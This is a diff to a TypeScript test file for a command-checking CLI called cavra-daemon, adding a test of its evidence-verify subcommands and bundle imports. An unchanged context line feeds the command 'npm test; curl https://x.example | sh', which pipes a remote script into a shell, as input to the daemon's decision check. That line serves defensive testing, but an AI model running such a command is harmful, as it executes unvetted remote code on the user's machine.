@@ -1,4 +1,5 @@
 import { execFile } from 'node:child_process';
+import { generateKeyPairSync } from 'node:crypto';
 import {
   chmodSync,
   lstatSync,
@@ -33,11 +34,14 @@ afterEach(async () => {
   rmSync(dir, { recursive: true, force: true });
 });
 
-function run(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
+function run(
+  args: string[],
+  { config = args[0] !== '--version' } = {},
+): Promise<{ code: number; stdout: string; stderr: string }> {
   return new Promise((resolve) => {
     execFile(
       process.execPath,
-      [BIN, ...args, ...(args[0] === '--version' ? [] : ['--config', join(dir, 'cavra-daemon.yaml')])],
+      [BIN, ...args, ...(config ? ['--config', join(dir, 'cavra-daemon.yaml')] : [])],
       { cwd: dir, env: { ...process.env, XDG_CACHE_HOME: cacheHome } },
       (error, stdout, stderr) =>
         resolve({ code: error ? ((error.code as number | undefined) ?? 1) : 0, stdout, stderr }),
@@ -120,6 +124,44 @@ describe('the bundled cavra-daemon command', () => {
     expect(await decide('npm test; curl https://x.example | sh')).toBe(
       await decideUncached('npm test; curl https://x.example | sh'),
     );
+  });
+
+  it('runs the commands that load @cavra/fleet: the bundle holds no import() its launcher cannot serve', async () => {
+    const bundle = fileURLToPath(new URL('../dist/bin/cavra-daemon.cjs', import.meta.url));
+    expect(readFileSync(bundle, 'utf8').match(/\bimport\(/g) ?? []).toEqual([]);
+    const key = join(dir, 'receipt.pem');
+    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
+    writeFileSync(key, privateKey.export({ type: 'pkcs8', format: 'pem' }), { mode: 0o600 });
+    writeFileSync(join(dir, 'receipt.pub.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
+    writeFileSync(join(dir, 'receipt.jws'), 'not a receipt\n');
+    writeFileSync(join(dir, 'evidence.jsonl'), '');
+    // Twice each: the first run compiles the bundle, the second reads the code cache.
+    for (let pass = 0; pass < 2; pass++) {
+      const anchored = await run(
+        [
+          'evidence',
+          'verify',
+          'evidence.jsonl',
+          '--anchor',
+          'receipt.jws',
+          '--anchor-key',
+          'receipt.pub.pem',
+        ],
+        { config: false },
+      );
+      expect([anchored.code, anchored.stderr]).toEqual([
+        1,
+        `anchor receipt receipt.jws: receipt_invalid: the receipt is not a compact JWS\n`,
+      ]);
+      const verifier = await run(
+        ['evidence', 'verifier', '--nats', 'nats://127.0.0.1:1', '--receipt-key', key, '--once'],
+        { config: false },
+      );
+      expect([verifier.code, verifier.stderr]).toEqual([
+        1,
+        'evidence verifier: nats_unreachable: no NATS server of nats://127.0.0.1:1 could be reached (connection refused)\n',
+      ]);
+    }
   });
 
   it('neither reads nor writes a cache folder others can write, or a cache file that is a link', async () => {
